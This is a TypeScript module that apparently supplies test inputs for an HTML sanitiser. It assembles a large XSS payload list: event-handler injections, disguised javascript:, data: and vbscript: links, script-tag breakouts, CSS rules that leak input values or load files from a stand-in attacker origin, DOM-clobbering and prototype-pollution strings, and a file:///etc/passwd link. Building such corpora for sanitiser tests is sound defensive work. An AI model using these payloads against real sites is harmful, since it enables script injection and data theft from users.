import { embedPayloads, foreignPayloads, mutationPayloads } from "./xss-markup.ts"
import { attackerOrigin, calledName } from "./xss-names.ts"

const call = `${calledName}(1)`
const attacker = attackerOrigin

const events = [
  ...["abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur"],
  ...["canplay", "change", "click", "contextmenu", "copy", "cut", "dblclick", "drag", "dragstart"],
  ...["drop", "error", "focus", "focusin", "formdata", "hashchange", "input", "invalid", "keydown"],
  ...["keypress", "keyup", "load", "loadstart", "message", "mousedown", "mouseenter", "mouseleave"],
  ...[
    "mousemove",
    "mouseover",
    "mouseup",
    "mousewheel",
    "offline",
    "online",
    "pagehide",
    "pageshow",
  ],
  ...[
    "paste",
    "play",
    "pointerdown",
    "pointerenter",
    "pointerover",
    "popstate",
    "resize",
    "scroll",
  ],
  ...["scrollend", "search", "securitypolicyviolation", "select", "storage", "submit", "toggle"],
  ...["touchstart", "transitionend", "unload", "wheel", "webkitanimationstart", "beforematch"],
]

/** One element per event handler; events that need no user action are triggered automatically. */
const handlers = events.map((event, at) => {
  const carriers = [
    `<img src=x on${event}=${call}>`,
    `<p tabindex=0 autofocus on${event}="${call}">p</p>`,
    `<a href="#" on${event}='${call}'>a</a>`,
    `<td on${event}=${call}>`,
  ]
  return carriers[at % carriers.length] ?? ""
})

/** Obfuscated URL schemes that a filter may miss and a browser executes. */
export const disguisedLinks = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `  javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\r\nscript:${call}`,
  `\u0001javascript:${call}`,
  `\u001fjavascript:${call}`,
  `java\u0000script:${call}`,
  `javascript\u0000:${call}`,
  `\u00a0javascript:${call}`,
  `\u200bjavascript:${call}`,
  `\ufeffjavascript:${call}`,
  `java\u00adscript:${call}`,
  `\uff4aavascript:${call}`,
  `javascript\uff1a${call}`,
  `javascript://${attacker}/%0a${call}`,
  `javascript:/*https://*/${call}`,
  `javascript:\`\${${call}}\``,
  `javascript:%70wned(1)`,
  `jav%61script:${call}`,
  `javascript\n:${call}`,
  `javascript\t:${call}`,
  `view-source:javascript:${call}`,
  `feed:javascript:${call}`,
  `jar:javascript:${call}!/`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoMSk8L3NjcmlwdD4=`,
  `DATA:text/html;charset=utf-8,%3Cscript%3Eparent.${call}%3C/script%3E`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call}'/>`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  `data:,${call}`,
  `vbscript:${call}`,
  `VbScript:msgbox(1)`,
  `livescript:${call}`,
  `mocha:${call}`,
  `blob:${attacker}/1`,
  `filesystem:${attacker}/temporary/1`,
  `file:///etc/passwd`,
  `about:blank#${call}`,
  `//stranger.example/a`,
  `\\\\stranger.example\\a`,
  `/\\stranger.example/a`,
  `/\t/stranger.example/a`,
  `/.//stranger.example/a`,
  `https:stranger.example`,
  `http:\\\\stranger.example`,
]

/** The disguised links in HTML, including entities. */
const links = [
  ...disguisedLinks.map((link) => `<a href="${link.replaceAll('"', "&quot;")}">link</a>`),
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call}">e</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}">e</a>`,
  `<a href="&#0000106avascript:${call}">e</a>`,
  `<a href="java&Tab;script:${call}">e</a>`,
  `<a href="java&NewLine;script:${call}">e</a>`,
  `<a href="javascript&colon;${call}">e</a>`,
  `<a href="&#1;javascript:${call}">e</a>`,
  `<a href="&#x0D;javascript:${call}">e</a>`,
  `<a href=javascript:${call}>e</a>`,
  `<a href='javascript:${call}' target=_self>e</a>`,
  `<a href=\`javascript:${call}\`>e</a>`,
  `<a href="https://ok.example" href="javascript:${call}">e</a>`,
  `<a HREF="javascript:${call}" href="/ok">e</a>`,
  `<a xlink:href="javascript:${call}">e</a>`,
  `<a href="/ok" ping="${attacker}/ping">e</a>`,
  `<a href="/ok" target="_parent" onclick=${call}>e</a>`,
  `<a href="/ok" download="x" referrerpolicy="unsafe-url">e</a>`,
  `<area href="javascript:${call}" shape=default>`,
  `<map name=m><area href="javascript:${call}"></map><img usemap=#m src=/x.png>`,
]

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=${attacker}/a.js></SCRIPT>`,
  `<script/x>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `</script><script>${call}</script>`,
  `"}</script><script>${call}</script>`,
  `\u2028</script ><script>${call}</script >`,
  `<!--</script><script>${call}</script>-->`,
  `<!--<script>`,
  `<script type="module">${call}</script>`,
  `<script type="text/plain" src="data:text/javascript,${call}"></script>`,
  `<script nomodule>${call}</script>`,
  `<script>\`</script><script>${call}//\`</script>`,
  `<script xmlns="http://www.w3.org/2000/svg" href="data:,${call}"/>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<link rel=stylesheet href="${attacker}/a.css">`,
  `<link rel=prefetch href="${attacker}/a">`,
  `<link rel="modulepreload" href="${attacker}/a.js">`,
]

const styles = [
  `<style>*{display:none}</style>`,
  `<style>@import url(${attacker}/a.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${attacker}/f)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${attacker}/a)}</style>`,
  `<p style="background:url(${attacker}/s.png)">x</p>`,
  `<p style="background-image:url('javascript:${call}')">x</p>`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="xss:expr/**/ession(${call})">x</p>`,
  `<p style="-moz-binding:url(${attacker}/x.xml#a)">x</p>`,
  `<p style="behavior:url(${attacker}/x.htc)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">over</p>`,
  `<p style="text-align:center;position:fixed">x</p>`,
  `<p style="text-align:center;background:url(${attacker}/t.png)">x</p>`,
  `<p style="text-align:cent\\65r;x:1">x</p>`,
  `<p style="text-align:center/*;*/;color:expression(${call})">x</p>`,
  `<p style="text-align:url(${attacker}/u.png)">x</p>`,
  `<p style="text-align:center}*{display:none">x</p>`,
  `<p style="--a:url(${attacker}/v.png);background:var(--a)">x</p>`,
  `<p style='text-align:left"onmouseover=${call} x="'>x</p>`,
  `<p align="center onmouseover=${call}">x</p>`,
  `<p class="fixed inset-0 z-50 bg-danger">over</p>`,
  `<p style="@import '${attacker}/i.css'">x</p>`,
  `<div style="content:'</style><script>${call}</script>'">x</div>`,
  `red;background:url(${attacker}/w.png)`,
  `}</style><script>${call}</script>`,
]

const clobbers = [
  `<a id=__next_f></a>`,
  `<a id=__NEXT_DATA__ href=javascript:${call}></a>`,
  `<a id=webpackChunk_N_E></a>`,
  `<img name=cookie src=/x.png>`,
  `<img name=getElementById src=/x.png>`,
  `<img name=currentScript src="${attacker}/x.js">`,
  `<form name=body></form>`,
  `<form id=forms><input name=attributes><input id=children></form>`,
  `<a id=config href="javascript:${call}"></a><a id=config name=url href="${attacker}"></a>`,
  `<a id=location></a>`,
  `<a id=document></a>`,
  `<a id=content href="/x">skip</a>`,
  `<img id=action src=/x.png>`,
  `<object id=defaultView></object>`,
  `<embed name=querySelector>`,
  `<iframe name=self></iframe>`,
  `<p id="__proto__">x</p>`,
  `<p id="constructor">x</p>`,
  `<p __proto__="x" constructor="y" onclick=${call}>x</p>`,
  `<__proto__ onclick=${call}>x</__proto__>`,
  `<constructor onclick=${call}>x</constructor>`,
  `{"__proto__":{"onerror":"${call}"}}`,
  `__proto__[innerHTML]=<img src=x onerror=${call}>`,
  `<p slot=x part=y nonce=z itemscope itemprop=q contenteditable accesskey=x>x</p>`,
]

/**
 * XSS payloads: run a script, send a request to the attacker, restyle the page or imitate a part of
 * it. Each successful payload calls `pwned`.
 */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...handlers,
    ...links,
    ...scripts,
    ...foreignPayloads,
    ...mutationPayloads,
    ...embedPayloads,
    ...styles,
    ...clobbers,
  ]),
]

/** Formatting that the sanitiser has to preserve: its HTML, and its selector and text in a page. */
export const wantedHtml = {
  html: '<p style="text-align:center"><strong>Unchanged</strong></p><ol start="3"><li>third</li></ol>',
  selector: "p[style='text-align:center'] > strong",
  text: "Kept as it is",
}
